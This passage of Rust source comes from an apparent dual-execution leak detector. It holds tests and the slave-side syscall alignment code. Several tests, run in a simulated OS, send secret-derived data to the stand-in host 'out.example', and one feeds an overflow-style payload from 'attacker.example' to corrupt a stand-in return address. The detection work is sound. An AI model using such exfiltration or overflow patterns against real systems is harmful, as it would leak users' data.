                    for (let j = 0; j < m; j = j + 1) {
                        total = total + int(read(fd, 2));
                    }
                    write(3, str(total));
                }
                send(connect("out.example"), str(n * 100 + m));
            }"#,
        );
        let world = VosConfig::new()
            .file("/in", "1 2 10203040506070")
            .peer("out.example", PeerBehavior::Echo);
        let spec = DualSpec::default()
            .source(SourceSpec {
                matcher: SourceMatcher::FileRead("/in".into()),
                mutation: Mutation::Replace("2 1 10203040506070".into()),
            })
            .sinks(SinkSpec::NetworkOut);
        let report = dual_execute(program, &world, &spec);
        assert!(report.master.is_ok(), "master: {:?}", report.master);
        assert!(report.slave.is_ok(), "slave: {:?}", report.slave);
        // The send payload differs (102 vs 201): strong causality.
        assert!(report.leaked());
        assert!(report
            .causality
            .iter()
            .any(|c| matches!(c.kind, CausalityKind::ArgDiff { .. })));
    }

    #[test]
    fn site_sinks_detect_attack_style_causality() {
        // Vulnerable-program style: the "critical value" (stand-in for a
        // return address) is exposed at a designated site sink.
        let program = build(
            r#"
            fn process(input) {
                let retaddr = 4096;
                if (len(trim(input)) > 8) {
                    // "overflow": the input corrupts the return address.
                    retaddr = int(substr(input, 8, 8));
                }
                write(3, str(retaddr));
                return 0;
            }
            fn main() {
                let sock = connect("attacker.example");
                let data = recv(sock, 32);
                process(data);
            }
            "#,
        );
        let world = VosConfig::new().peer(
            "attacker.example",
            PeerBehavior::Script(vec!["AAAAAAAA99999999".into()]),
        );
        let spec = DualSpec::default()
            .source(SourceSpec::net("attacker.example"))
            .sinks(SinkSpec::Sites(vec![("process".into(), 0)]));
        let report = dual_execute(program, &world, &spec);
        assert!(report.leaked(), "attack causality detected");
    }

    #[test]
    fn concurrent_program_with_locks_is_quiet_without_leak() {
        let program = build(
            r#"
            global total = 0;
            fn worker(k) {
                for (let i = 0; i < 5; i = i + 1) {
                    lock(1);
                    total = total + k;
                    unlock(1);
                }
                return 0;
            }
            fn main() {
                let fd = open("/in", 0);
                let secret = read(fd, 4);
                let t1 = spawn(&worker, 1);
                let t2 = spawn(&worker, 2);
                join(t1);
                join(t2);
                send(connect("out.example"), str(total));
            }
            "#,
        );
        let world = VosConfig::new()
            .file("/in", "abcd")
            .peer("out.example", PeerBehavior::Echo);
        let spec = DualSpec::default()
            .source(SourceSpec::file("/in"))
            .sinks(SinkSpec::NetworkOut);
        let report = dual_execute(program, &world, &spec);
        assert!(report.master.is_ok(), "master: {:?}", report.master);
        assert!(report.slave.is_ok(), "slave: {:?}", report.slave);
        assert!(
            !report.leaked(),
            "total independent of secret: {:?}",
            report.causality
        );
    }

    #[test]
    fn concurrent_leak_detected_through_threads() {
        let program = build(
            r#"
            global secret_len = 0;
            fn worker(k) {
                lock(1);
                secret_len = secret_len + k;
                unlock(1);
                return 0;
            }
            fn main() {
                let fd = open("/in", 0);
                let secret = trim(read(fd, 8));
                let t = spawn(&worker, len(secret));
                join(t);
                send(connect("out.example"), str(secret_len));
            }
            "#,
        );
        let world = VosConfig::new()
            .file("/in", "abc     ")
            .peer("out.example", PeerBehavior::Echo);
        let spec = DualSpec::default()
            .source(SourceSpec {
                matcher: SourceMatcher::FileRead("/in".into()),
                mutation: Mutation::Replace("abcdef  ".into()),
            })
            .sinks(SinkSpec::NetworkOut);
        let report = dual_execute(program, &world, &spec);
        assert!(report.leaked(), "length leak through a thread");
    }

    #[test]
    fn exit_code_difference_is_end_diff() {
        let program = build(
            r#"fn main() {
                let fd = open("/in", 0);
                let v = int(read(fd, 4));
                if (v > 10) { exit(1); }
                exit(0);
            }"#,
        );
        let world = VosConfig::new().file("/in", "5   ");
        let spec = DualSpec::with_source(SourceSpec {
            matcher: SourceMatcher::FileRead("/in".into()),
            mutation: Mutation::Replace("50  ".into()),
        });
        let report = dual_execute(program, &world, &spec);
        assert!(report
            .causality
            .iter()
            .any(|c| matches!(c.kind, CausalityKind::EndDiff { .. })));
    }

    #[test]
    fn decoupled_reads_reconstruct_position() {
        // The slave diverges *after* consuming part of a shared file; its
        // decoupled read must continue from the right offset (clone +
        // open + seek, paper §4.2).
        let program = build(
            r#"fn main() {
                let fd = open("/data", 0);
                let head = read(fd, 4);
                let sfd = open("/secret", 0);
                let secret = read(sfd, 4);
                let out = "";
                if (secret == "yes ") {
                    let tail1 = read(fd, 4);
                    out = head + tail1;
                } else {
                    let tail2 = read(fd, 4);
                    let tail3 = read(fd, 4);
                    out = head + tail2 + tail3;
                }
                send(connect("out.example"), out);
            }"#,
        );
        let world = VosConfig::new()
            .file("/data", "AAAABBBBCCCC")
            .file("/secret", "yes ")
            .peer("out.example", PeerBehavior::Echo);
        let spec = DualSpec::default()
            .source(SourceSpec {
                matcher: SourceMatcher::FileRead("/secret".into()),
                mutation: Mutation::Replace("no  ".into()),
            })
            .sinks(SinkSpec::NetworkOut);
        let report = dual_execute(program, &world, &spec);
        assert!(report.leaked());
        // The slave's sink payload must show the *continued* file content
        // (AAAABBBBCCCC), proving the overlay seeked correctly.
        let arg_diff = report.causality.iter().find_map(|c| match &c.kind {
            CausalityKind::ArgDiff { master, slave } => Some((master.clone(), slave.clone())),
            _ => None,
        });
        let (master, slave) = arg_diff.expect("send args compared");
        assert!(master.contains("AAAABBBB"), "master: {master}");
        assert!(slave.contains("AAAABBBBCCCC"), "slave: {slave}");
    }

    #[test]
    fn slave_writes_do_not_leak_into_master_world() {
        let program = build(
            r#"fn main() {
                let fd = open("/in", 0);
                let v = trim(read(fd, 4));
                if (v == "log") {
                    let w = open("/log.txt", 1);
                    write(w, "logged:" + v);
                    close(w);
                }
                send(connect("out.example"), "done");
            }"#,
        );
        let world = VosConfig::new()
            .file("/in", "off ")
            .peer("out.example", PeerBehavior::Echo);
        let spec = DualSpec::default()
            .source(SourceSpec {
                matcher: SourceMatcher::FileRead("/in".into()),
                mutation: Mutation::Replace("log ".into()),
            })
            .sinks(SinkSpec::NetworkOut);
        let report = dual_execute(program, &world, &spec);
        // Master (v=off) never creates the log file; slave's decoupled
        // write stays in the overlay. No sink diff: the send agrees.
        assert!(!report.leaked(), "{:?}", report.causality);
        assert!(report.decoupled > 0, "slave executed decoupled writes");
    }

    #[test]
    fn stats_accumulate_sensibly() {
        let spec =
            DualSpec::with_source(SourceSpec::file("/employee").with_mutation(Mutation::Identity));
        let report = dual_execute(employee_program(), &employee_world(), &spec);
        let master_sys = report.master.as_ref().unwrap().stats.syscalls;
        assert_eq!(report.shared, master_sys, "all outcomes shared");
        assert_eq!(report.master_sinks, 1, "one send sink");
    }

    #[test]
    fn dual_execute_is_reentrant_across_threads() {
        // The batch scheduler's contract: concurrent dual_execute calls
        // (same program, same world) behave exactly like sequential ones.
        let program = employee_program();
        let world = employee_world();
        let spec = DualSpec::with_source(SourceSpec::file("/employee"));
        let baseline = dual_execute(Arc::clone(&program), &world, &spec);
        let concurrent: Vec<DualReport> = std::thread::scope(|s| {
            let handles: Vec<_> = (0..4)
                .map(|_| {
                    let program = Arc::clone(&program);
                    let world = &world;
                    let spec = &spec;
                    s.spawn(move || dual_execute(program, world, spec))
                })
                .collect();
            handles.into_iter().map(|h| h.join().unwrap()).collect()
        });
        for report in &concurrent {
            assert_eq!(report.leaked(), baseline.leaked());
            assert_eq!(report.causality.len(), baseline.causality.len());
            assert_eq!(report.shared, baseline.shared);
            assert_eq!(report.syscall_diffs, baseline.syscall_diffs);
        }
    }
}
