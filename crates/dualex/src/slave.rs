//! The slave execution's syscall wrapper.
//!
//! For every syscall the slave checks its alignment against the master's
//! outcome queue using the progress key (paper §4.2):
//!
//! * **behind entries** (master-only syscalls) are skipped and counted as
//!   syscall differences — master-only *sinks* become causality records;
//! * an **equal** entry with the same site and arguments is *shared*: the
//!   slave copies the master's outcome without touching the OS;
//! * an equal entry with different arguments or a different site, or no
//!   entry at all once the master is provably past this key, means the
//!   paths diverged: the slave executes **decoupled** against its private
//!   overlay world (cloning touched resources, paper §7), and sink
//!   instances on either side become causality records;
//! * if the master is **behind**, the slave blocks until it catches up.
//!
//! Source-matched input outcomes are mutated (this is where the
//! counterfactual perturbation enters the slave).

use crate::couple::Coupling;
use crate::fdmap::{FdInfo, Resource, SlaveFdMap};
use crate::mutation::Mutation;
use crate::recorder::{excerpt, key_scalar, ByteDiff, Decision, FlightEvent, ResourceId};
use crate::report::{CausalityKind, CausalityRecord, Role, TraceAction};
use crate::resolved::{ResolvedMatcher, ResolvedSinks, ResolvedSources};
use ldx_lang::Syscall;
use ldx_runtime::{
    from_sys_ret, to_sys_args, LockTable, ProgressKey, ProgressOrder, StopSignal, SysOutcome,
    SyscallCtx, SyscallHooks, ThreadKey, Trap, Value,
};
use ldx_vos::{SlaveVos, SysArg, SysRet};
use parking_lot::Mutex;
use std::collections::{HashMap, HashSet};
use std::sync::atomic::Ordering;
use std::sync::Arc;
use std::time::{Duration, Instant};

use crate::master::MAX_WAIT;

/// Slave-side hooks.
pub(crate) struct SlaveHooks {
    pub coupling: Arc<Coupling>,
    pub overlay: SlaveVos,
    pub locks: LockTable,
    pub sinks: ResolvedSinks,
    pub sources: ResolvedSources,
    pub fdmap: Mutex<SlaveFdMap>,
    pub decoupled_threads: Mutex<HashSet<ThreadKey>>,
    pub spawn_counts: Mutex<HashMap<ThreadKey, u32>>,
}

/// How far the master's published progress is past the slave's key (0
/// when unknown, terminal, or behind).
fn master_delta(master: Option<&ProgressKey>, slave: &ProgressKey) -> u64 {
    match master {
        Some(m) if !m.is_top() => key_scalar(m).saturating_sub(key_scalar(slave)),
        _ => 0,
    }
}

/// Result of the alignment check.
enum Align {
    /// Aligned: use the master's outcome.
    Shared(Value),
    /// No alignment (any sink records were already emitted).
    Decoupled,
}

impl SlaveHooks {
    fn thread_decoupled(&self, t: &ThreadKey) -> bool {
        self.decoupled_threads.lock().contains(t)
    }

    fn record_sink(&self, ctx: &SyscallCtx, kind: CausalityKind) {
        self.coupling.record(CausalityRecord {
            kind,
            thread: ctx.thread.clone(),
            key: ctx.key.clone(),
            func: ctx.func,
            site: ctx.site,
            sys: ctx.sys,
        });
    }

    fn render_args(args: &[Value]) -> String {
        let parts: Vec<String> = args.iter().map(Value::stringify).collect();
        parts.join(", ")
    }

    /// Records a slave-lane syscall-decision flight event. All events the
    /// slave witnesses — including master-only entries it skips — land in
    /// the slave lane so each lane has a single writer while both
    /// executions run concurrently.
    #[allow(clippy::too_many_arguments)]
    fn flight_decision(
        &self,
        decision: Decision,
        ctx: &SyscallCtx,
        func: ldx_ir::FuncId,
        site: ldx_ir::SiteId,
        sys: Syscall,
        master_cnt: u64,
        is_sink: bool,
    ) {
        self.coupling.flight(Role::Slave, || FlightEvent::Syscall {
            decision,
            thread: ctx.thread.clone(),
            func,
            site,
            sys,
            master_cnt,
            slave_cnt: key_scalar(&ctx.key),
            is_sink,
        });
    }

    /// The alignment state machine, instrumented. When observability is
    /// on and the slave actually blocked, the wait is reported to the
    /// stall profiler (keyed by the barrier's static site) together with
    /// the master/slave progress-counter delta observed at release.
    fn align(&self, ctx: &SyscallCtx, args: &[Value], is_sink: bool) -> Align {
        let mut waits: u64 = 0;
        if !ldx_obs::enabled() {
            return self.align_inner(ctx, args, is_sink, &mut waits);
        }
        let t0_ns = ldx_obs::now_ns();
        let out = self.align_inner(ctx, args, is_sink, &mut waits);
        if waits > 0 {
            let ns = ldx_obs::now_ns().saturating_sub(t0_ns);
            let delta = {
                let pair = self.coupling.pair(&ctx.thread);
                let inner = pair.inner.lock();
                master_delta(inner.master_ready.as_ref(), &ctx.key)
            };
            ldx_obs::stall_record(&format!("f{}:s{}", ctx.func.0, ctx.site.0), ns, delta);
            ldx_obs::record_complete(
                ldx_obs::cat::BARRIER_WAIT,
                "align-wait",
                t0_ns,
                ns,
                vec![("delta", delta as i64), ("waits", waits as i64)],
            );
        }
        out
    }

    /// The alignment state machine. Never blocks forever: released by the
    /// master's progress, the master's termination, the stop signal, or
    /// the safety timeout. `waits` counts condvar blocks for the caller's
    /// stall accounting.
    fn align_inner(
        &self,
        ctx: &SyscallCtx,
        args: &[Value],
        is_sink: bool,
        waits: &mut u64,
    ) -> Align {
        let pair = self.coupling.pair(&ctx.thread);
        pair.publish(Role::Slave, ctx.key.clone());

        let start = Instant::now();
        let mut inner = pair.inner.lock();
        loop {
            while inner.queue.front().is_some_and(|e| e.consumed) {
                inner.queue.pop_front();
            }
            if let Some(front) = inner.queue.front() {
                match front.key.cmp_progress(&ctx.key) {
                    ProgressOrder::Behind => {
                        // A master-only syscall the slave will never issue.
                        let e = inner.queue.pop_front().expect("front exists");
                        self.flight_decision(
                            Decision::MasterOnly,
                            ctx,
                            e.func,
                            e.site,
                            e.sys,
                            key_scalar(&e.key),
                            e.is_sink,
                        );
                        if e.is_sink {
                            self.coupling.record(CausalityRecord {
                                kind: CausalityKind::MasterOnlySink,
                                thread: ctx.thread.clone(),
                                key: e.key,
                                func: e.func,
                                site: e.site,
                                sys: e.sys,
                            });
                        } else {
                            self.coupling.stats.diffs.fetch_add(1, Ordering::Relaxed);
                        }
                    }
                    ProgressOrder::Equal => {
                        if front.site == ctx.site && front.sys == ctx.sys {
                            if front.args == args {
                                let e = inner.queue.pop_front().expect("front exists");
                                self.flight_decision(
                                    if is_sink {
                                        Decision::Compared
                                    } else {
                                        Decision::Shared
                                    },
                                    ctx,
                                    ctx.func,
                                    ctx.site,
                                    ctx.sys,
                                    key_scalar(&e.key),
                                    is_sink,
                                );
                                self.coupling.stats.shared.fetch_add(1, Ordering::Relaxed);
                                ldx_obs::instant(
                                    ldx_obs::cat::SYSCALL_DECISION,
                                    if is_sink {
                                        "sink-compare"
                                    } else {
                                        "aligned-reuse"
                                    },
                                );
                                if is_sink {
                                    self.coupling.trace_syscall(
                                        Role::Slave,
                                        &ctx.thread,
                                        &ctx.key,
                                        Some(ctx.sys),
                                        TraceAction::SinkMatch,
                                    );
                                }
                                return Align::Shared(e.outcome);
                            }
                            // Same site, different arguments (Alg. 2 case 3).
                            let e = inner.queue.pop_front().expect("front exists");
                            if is_sink {
                                ldx_obs::instant(ldx_obs::cat::SYSCALL_DECISION, "sink-compare");
                                self.flight_decision(
                                    Decision::Compared,
                                    ctx,
                                    ctx.func,
                                    ctx.site,
                                    ctx.sys,
                                    key_scalar(&e.key),
                                    true,
                                );
                                self.coupling.flight(Role::Slave, || FlightEvent::SinkDiff {
                                    thread: ctx.thread.clone(),
                                    func: ctx.func,
                                    site: ctx.site,
                                    sys: ctx.sys,
                                    cnt: key_scalar(&ctx.key),
                                    diff: ByteDiff::compute(
                                        &Self::render_args(&e.args),
                                        &Self::render_args(args),
                                    ),
                                });
                                self.record_sink(
                                    ctx,
                                    CausalityKind::ArgDiff {
                                        master: Self::render_args(&e.args),
                                        slave: Self::render_args(args),
                                    },
                                );
                                self.coupling.trace_syscall(
                                    Role::Slave,
                                    &ctx.thread,
                                    &ctx.key,
                                    Some(ctx.sys),
                                    TraceAction::SinkDiff,
                                );
                            } else {
                                self.coupling.stats.diffs.fetch_add(1, Ordering::Relaxed);
                            }
                            return Align::Decoupled;
                        }
                        // Same key, different site (Alg. 2 case 2).
                        let e = inner.queue.pop_front().expect("front exists");
                        self.flight_decision(
                            Decision::MasterOnly,
                            ctx,
                            e.func,
                            e.site,
                            e.sys,
                            key_scalar(&e.key),
                            e.is_sink,
                        );
                        if e.is_sink {
                            self.coupling.record(CausalityRecord {
                                kind: CausalityKind::PathDiffAtSink,
                                thread: ctx.thread.clone(),
                                key: e.key,
                                func: e.func,
                                site: e.site,
                                sys: e.sys,
                            });
                        } else {
                            self.coupling.stats.diffs.fetch_add(1, Ordering::Relaxed);
                        }
                        if is_sink {
                            self.flight_decision(
                                Decision::SlaveOnly,
                                ctx,
                                ctx.func,
                                ctx.site,
                                ctx.sys,
                                key_scalar(&ctx.key),
                                true,
                            );
                            self.record_sink(ctx, CausalityKind::SlaveOnlySink);
                        }
                        return Align::Decoupled;
                    }
                    ProgressOrder::Ahead | ProgressOrder::Divergent => {
                        // The master is already past this key: no alignment
                        // will ever exist (Alg. 2 case 1).
                        if is_sink {
                            self.flight_decision(
                                Decision::SlaveOnly,
                                ctx,
                                ctx.func,
                                ctx.site,
                                ctx.sys,
                                key_scalar(&ctx.key),
                                true,
                            );
                            self.record_sink(ctx, CausalityKind::SlaveOnlySink);
                            self.coupling.trace_syscall(
                                Role::Slave,
                                &ctx.thread,
                                &ctx.key,
                                Some(ctx.sys),
                                TraceAction::SinkDiff,
                            );
                        }
                        return Align::Decoupled;
                    }
                }
                continue;
            }
            // Queue empty: decide by the master's published progress.
            let master_past = inner.master_done
                || inner
                    .master_ready
                    .as_ref()
                    .is_some_and(|r| !matches!(r.cmp_progress(&ctx.key), ProgressOrder::Behind));
            if master_past {
                if is_sink {
                    self.flight_decision(
                        Decision::SlaveOnly,
                        ctx,
                        ctx.func,
                        ctx.site,
                        ctx.sys,
                        key_scalar(&ctx.key),
                        true,
                    );
                    self.record_sink(ctx, CausalityKind::SlaveOnlySink);
                }
                return Align::Decoupled;
            }
            if ctx.stop.should_stop() || start.elapsed() > MAX_WAIT {
                return Align::Decoupled;
            }
            *waits += 1;
            pair.cv.wait_for(&mut inner, Duration::from_millis(2));
        }
    }

    /// Mutation matching one of the configured sources, if any.
    fn source_mutation(&self, ctx: &SyscallCtx, args: &[Value]) -> Option<Mutation> {
        let fdmap = self.fdmap.lock();
        let fd_resource = args.first().and_then(|a| match a {
            Value::Int(fd) => fdmap.get(*fd).map(|i| i.resource.clone()),
            _ => None,
        });
        for source in &self.sources.sources {
            let hit = match &source.matcher {
                ResolvedMatcher::FileRead(segs) => {
                    ctx.sys == Syscall::Read
                        && matches!(&fd_resource, Some(Resource::File { path, .. })
                            if &ldx_vos::normalize_path(path) == segs)
                }
                ResolvedMatcher::NetRecv(host) => {
                    matches!(ctx.sys, Syscall::Recv | Syscall::Read)
                        && matches!(&fd_resource, Some(Resource::Peer { host: h }) if h == host)
                }
                ResolvedMatcher::ClientRecv(port) => {
                    matches!(ctx.sys, Syscall::Recv | Syscall::Read)
                        && matches!(&fd_resource, Some(Resource::Client { port: p, .. }) if p == port)
                }
                ResolvedMatcher::SyscallKind(sys) => ctx.sys == *sys,
                ResolvedMatcher::Site(fid, site) => ctx.func == *fid && ctx.site == *site,
            };
            if hit {
                return Some(source.mutation.clone());
            }
        }
        None
    }

    /// Whether the syscall references a tainted resource.
    fn touches_tainted(&self, sys: Syscall, args: &[Value]) -> bool {
        for path in Self::paths_in(sys, args) {
            if self.coupling.path_tainted(&path) {
                return true;
            }
        }
        if let Some(Value::Int(fd)) = args.first() {
            if matches!(
                sys,
                Syscall::Read | Syscall::Write | Syscall::Seek | Syscall::Close
            ) {
                if let Some(FdInfo {
                    resource: Resource::File { path, .. },
                    ..
                }) = self.fdmap.lock().get(*fd)
                {
                    return self.coupling.path_tainted(path);
                }
            }
        }
        false
    }

    fn paths_in(sys: Syscall, args: &[Value]) -> Vec<String> {
        let mut out = Vec::new();
        let grab = |i: usize, out: &mut Vec<String>| {
            if let Some(Value::Str(s)) = args.get(i) {
                out.push(s.to_string());
            }
        };
        match sys {
            Syscall::Open | Syscall::Stat | Syscall::Mkdir | Syscall::Unlink | Syscall::Readdir => {
                grab(0, &mut out)
            }
            Syscall::Rename => {
                grab(0, &mut out);
                grab(1, &mut out);
            }
            _ => {}
        }
        out
    }

    /// Reconstructs (or retrieves) the overlay descriptor for a program
    /// descriptor whose resource was created while coupled (paper §4.2:
    /// clone, open, seek).
    fn ensure_overlay_fd(&self, fdmap: &mut SlaveFdMap, fd: i64) -> Option<i64> {
        let info = fdmap.get(fd)?.clone();
        if let Some(ofd) = info.overlay_fd {
            return Some(ofd);
        }
        let ofd = match &info.resource {
            Resource::File { path, flags } => {
                self.coupling.taint_path(path);
                self.coupling.flight(Role::Slave, || FlightEvent::CowClone {
                    resource: ResourceId::Path(ldx_vos::normalize_path(path).join("/")),
                    pos: info.pos as u64,
                });
                let mode = if *flags == 0 { 0 } else { 2 };
                let SysRet::Int(ofd) = self
                    .overlay
                    .syscall(
                        Syscall::Open,
                        &[SysArg::Str(path.clone()), SysArg::Int(mode)],
                    )
                    .ok()?
                else {
                    return None;
                };
                if ofd < 0 {
                    return None;
                }
                if *flags == 0 && info.pos > 0 {
                    let _ = self.overlay.syscall(
                        Syscall::Seek,
                        &[SysArg::Int(ofd), SysArg::Int(info.pos as i64)],
                    );
                }
                ofd
            }
            Resource::Peer { host } => {
                self.coupling.flight(Role::Slave, || FlightEvent::CowClone {
                    resource: ResourceId::Peer(host.clone()),
                    pos: info.pos as u64,
                });
                let SysRet::Int(ofd) = self
                    .overlay
                    .syscall(Syscall::Connect, &[SysArg::Str(host.clone())])
                    .ok()?
                else {
                    return None;
                };
                if ofd < 0 {
                    return None;
                }
                ofd
            }
            Resource::Client { port, index } => {
                self.coupling.flight(Role::Slave, || FlightEvent::CowClone {
                    resource: ResourceId::Client(*port),
                    pos: info.pos as u64,
                });
                // Replay accepts up to this client's index, then skip the
                // characters already consumed while coupled.
                let mut ofd = -1;
                while fdmap.overlay_accepts <= *index {
                    let SysRet::Int(got) = self
                        .overlay
                        .syscall(Syscall::Accept, &[SysArg::Int(*port)])
                        .ok()?
                    else {
                        return None;
                    };
                    fdmap.overlay_accepts += 1;
                    ofd = got;
                }
                if ofd < 0 {
                    return None;
                }
                if info.pos > 0 {
                    let _ = self.overlay.syscall(
                        Syscall::Recv,
                        &[SysArg::Int(ofd), SysArg::Int(info.pos as i64)],
                    );
                }
                ofd
            }
        };
        if let Some(slot) = fdmap.get_mut(fd) {
            slot.overlay_fd = Some(ofd);
        }
        Some(ofd)
    }

    /// Executes a syscall against the private overlay world.
    fn exec_decoupled(&self, ctx: &SyscallCtx, args: &[Value]) -> Result<Value, Trap> {
        self.coupling
            .stats
            .decoupled
            .fetch_add(1, Ordering::Relaxed);
        ldx_obs::instant(ldx_obs::cat::SYSCALL_DECISION, "decoupled");
        self.coupling.trace_syscall(
            Role::Slave,
            &ctx.thread,
            &ctx.key,
            Some(ctx.sys),
            TraceAction::Decoupled,
        );
        self.flight_decision(
            Decision::Decoupled,
            ctx,
            ctx.func,
            ctx.site,
            ctx.sys,
            // The master's position is unknown here; the slave's own
            // counter is the deterministic lower bound.
            key_scalar(&ctx.key),
            self.sinks.is_sink(ctx.func, ctx.site, ctx.sys, args),
        );
        let mut fdmap = self.fdmap.lock();
        let sys = ctx.sys;
        match sys {
            Syscall::Open => {
                let path = args[0].as_str()?.to_string();
                let flags = args[1].as_int()?;
                self.coupling.taint_path(&path);
                let ret = self.overlay.syscall(sys, &to_sys_args(args)?)?;
                if let SysRet::Int(fd) = &ret {
                    fdmap.on_open(*fd, &path, flags);
                    if let Some(info) = fdmap.get_mut(*fd) {
                        info.overlay_fd = Some(*fd);
                    }
                }
                Ok(from_sys_ret(ret))
            }
            Syscall::Connect => {
                let host = args[0].as_str()?.to_string();
                let ret = self.overlay.syscall(sys, &to_sys_args(args)?)?;
                if let SysRet::Int(fd) = &ret {
                    fdmap.on_connect(*fd, &host);
                    if let Some(info) = fdmap.get_mut(*fd) {
                        info.overlay_fd = Some(*fd);
                    }
                }
                Ok(from_sys_ret(ret))
            }
            Syscall::Accept => {
                let port = args[0].as_int()?;
                // Catch up the overlay backlog to the coupled position.
                while fdmap.overlay_accepts < fdmap.accept_count {
                    let _ = self.overlay.syscall(sys, &to_sys_args(args)?);
                    fdmap.overlay_accepts += 1;
                }
                let ret = self.overlay.syscall(sys, &to_sys_args(args)?)?;
                fdmap.overlay_accepts += 1;
                if let SysRet::Int(fd) = &ret {
                    fdmap.on_accept(*fd, port);
                    if let Some(info) = fdmap.get_mut(*fd) {
                        info.overlay_fd = Some(*fd);
                    }
                }
                Ok(from_sys_ret(ret))
            }
            Syscall::Read | Syscall::Recv => {
                let fd = args[0].as_int()?;
                if (0..=2).contains(&fd) {
                    return Ok(Value::str(""));
                }
                let Some(ofd) = self.ensure_overlay_fd(&mut fdmap, fd) else {
                    return Ok(Value::str(""));
                };
                let n = args[1].as_int()?;
                let ret = self
                    .overlay
                    .syscall(sys, &[SysArg::Int(ofd), SysArg::Int(n)])?;
                if let SysRet::Str(s) = &ret {
                    fdmap.on_read(fd, s.chars().count());
                }
                Ok(from_sys_ret(ret))
            }
            Syscall::Write | Syscall::Send => {
                let fd = args[0].as_int()?;
                let data = args[1].as_str()?;
                if (0..=2).contains(&fd) {
                    let ret = self.overlay.syscall(sys, &to_sys_args(args)?)?;
                    return Ok(from_sys_ret(ret));
                }
                let Some(ofd) = self.ensure_overlay_fd(&mut fdmap, fd) else {
                    return Ok(Value::Int(-1));
                };
                let ret = self
                    .overlay
                    .syscall(sys, &[SysArg::Int(ofd), SysArg::Str(data.to_string())])?;
                Ok(from_sys_ret(ret))
            }
            Syscall::Seek => {
                let fd = args[0].as_int()?;
                let pos = args[1].as_int()?;
                fdmap.on_seek(fd, pos);
                if let Some(ofd) = fdmap.get(fd).and_then(|i| i.overlay_fd) {
                    let _ = self
                        .overlay
                        .syscall(sys, &[SysArg::Int(ofd), SysArg::Int(pos)]);
                }
                Ok(Value::Int(0))
            }
            Syscall::Close => {
                let fd = args[0].as_int()?;
                if let Some(info) = fdmap.on_close(fd) {
                    if let Some(ofd) = info.overlay_fd {
                        let _ = self.overlay.syscall(sys, &[SysArg::Int(ofd)]);
                    }
                    Ok(Value::Int(0))
                } else {
                    Ok(Value::Int(-1))
                }
            }
            Syscall::Stat
            | Syscall::Mkdir
            | Syscall::Unlink
            | Syscall::Readdir
            | Syscall::Rename => {
                for p in Self::paths_in(sys, args) {
                    self.coupling.taint_path(&p);
                }
                Ok(from_sys_ret(
                    self.overlay.syscall(sys, &to_sys_args(args)?)?,
                ))
            }
            Syscall::GetPid | Syscall::Time | Syscall::Random | Syscall::Sleep => Ok(from_sys_ret(
                self.overlay.syscall(sys, &to_sys_args(args)?)?,
            )),
            other => Err(Trap::Aborted {
                reason: format!("decoupled execution of unexpected syscall `{other}`"),
            }),
        }
    }
}

impl SyscallHooks for SlaveHooks {
    fn syscall(&self, ctx: &SyscallCtx, args: &[Value]) -> Result<SysOutcome, Trap> {
        if ctx.stop.should_stop() {
            return Err(Trap::Aborted {
                reason: "slave execution stopping".into(),
            });
        }
        match ctx.sys {
            Syscall::Lock => {
                let id = args[0].as_int()?;
                let tainted = self.coupling.tainted_locks.lock().contains(&id);
                if !tainted && !self.thread_decoupled(&ctx.thread) {
                    // Share the master's grant order: wait for the aligned
                    // lock entry before acquiring our own lock (paper §7).
                    if matches!(self.align(ctx, args, false), Align::Decoupled) {
                        self.coupling.taint_lock(id);
                    }
                } else {
                    self.coupling
                        .stats
                        .decoupled
                        .fetch_add(1, Ordering::Relaxed);
                }
                self.locks.lock(id, &ctx.thread, &ctx.stop);
                Ok(SysOutcome::Value(Value::Int(0)))
            }
            Syscall::Unlock => {
                let id = args[0].as_int()?;
                let tainted = self.coupling.tainted_locks.lock().contains(&id);
                if !tainted
                    && !self.thread_decoupled(&ctx.thread)
                    && matches!(self.align(ctx, args, false), Align::Decoupled)
                {
                    self.coupling.taint_lock(id);
                }
                self.locks.unlock(id);
                Ok(SysOutcome::Value(Value::Int(0)))
            }
            Syscall::Spawn => {
                let index = {
                    let mut counts = self.spawn_counts.lock();
                    let c = counts.entry(ctx.thread.clone()).or_insert(0);
                    let i = *c;
                    *c += 1;
                    i
                };
                let child = ctx.thread.child(index);
                let decoupled = if self.thread_decoupled(&ctx.thread) {
                    true
                } else {
                    matches!(self.align(ctx, args, false), Align::Decoupled)
                };
                if decoupled {
                    // The spawned thread is unique to the slave: it runs
                    // fully decoupled (paper §7).
                    self.decoupled_threads.lock().insert(child);
                }
                Ok(SysOutcome::DoLocal)
            }
            Syscall::Join | Syscall::Exit | Syscall::Setjmp | Syscall::Longjmp => {
                let is_sink = ctx.sys == Syscall::Longjmp;
                if !self.thread_decoupled(&ctx.thread) {
                    let _ = self.align(ctx, args, is_sink);
                } else if is_sink {
                    self.record_sink(ctx, CausalityKind::SlaveOnlySink);
                }
                Ok(SysOutcome::DoLocal)
            }
            sys => {
                let is_sink = self.sinks.is_sink(ctx.func, ctx.site, sys, args);
                let alignment = if self.thread_decoupled(&ctx.thread) {
                    if is_sink {
                        self.record_sink(ctx, CausalityKind::SlaveOnlySink);
                    }
                    Align::Decoupled
                } else {
                    self.align(ctx, args, is_sink)
                };
                let tainted = self.touches_tainted(sys, args);
                let mut outcome = match alignment {
                    Align::Shared(v) if !tainted => {
                        // Observe shared outcomes so the descriptor shadow
                        // stays accurate.
                        let mut fdmap = self.fdmap.lock();
                        match (sys, args.first(), &v) {
                            (Syscall::Open, Some(Value::Str(p)), Value::Int(fd)) => {
                                let flags = args[1].as_int().unwrap_or(0);
                                fdmap.on_open(*fd, p, flags);
                            }
                            (Syscall::Connect, Some(Value::Str(h)), Value::Int(fd)) => {
                                fdmap.on_connect(*fd, h);
                            }
                            (Syscall::Accept, Some(Value::Int(port)), Value::Int(fd)) => {
                                fdmap.on_accept(*fd, *port);
                            }
                            (
                                Syscall::Read | Syscall::Recv,
                                Some(Value::Int(fd)),
                                Value::Str(s),
                            ) => {
                                fdmap.on_read(*fd, s.chars().count());
                            }
                            (Syscall::Seek, Some(Value::Int(fd)), _) => {
                                if let Ok(p) = args[1].as_int() {
                                    fdmap.on_seek(*fd, p);
                                }
                            }
                            (Syscall::Close, Some(Value::Int(fd)), _) => {
                                if let Some(info) = fdmap.on_close(*fd) {
                                    if let Some(ofd) = info.overlay_fd {
                                        drop(fdmap);
                                        let _ = self
                                            .overlay
                                            .syscall(Syscall::Close, &[SysArg::Int(ofd)]);
                                        fdmap = self.fdmap.lock();
                                    }
                                }
                            }
                            _ => {}
                        }
                        drop(fdmap);
                        self.coupling.trace_syscall(
                            Role::Slave,
